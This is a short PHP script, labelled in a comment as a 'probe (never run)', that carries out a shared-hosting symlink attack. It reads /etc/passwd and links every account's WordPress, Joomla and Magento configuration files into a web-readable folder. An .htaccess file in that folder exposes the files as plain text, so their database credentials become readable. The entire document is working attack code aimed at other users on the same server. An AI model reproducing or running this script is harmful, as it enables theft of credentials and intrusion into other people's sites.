<?php
// probe (never run): every account from /etc/passwd, its CMS configs linked into a folder of ours
@mkdir('sym', 0777);
file_put_contents('sym/.htaccess', "Options Indexes FollowSymLinks\nDirectoryIndex x.htm\nAddType text/plain .php\nAddHandler text/plain .php\n");
$users = file('/etc/passwd');
foreach ($users as $row) {
    $u = explode(':', $row);
    $home = '/home/' . $u[0] . '/public_html/';
    @symlink($home . 'wp-config.php', 'sym/' . $u[0] . '-wp.txt');
    @symlink($home . 'configuration.php', 'sym/' . $u[0] . '-joomla.txt');
    @symlink($home . 'app/etc/local.xml', 'sym/' . $u[0] . '-magento.txt');
}
echo '<a href="sym/">done</a>';
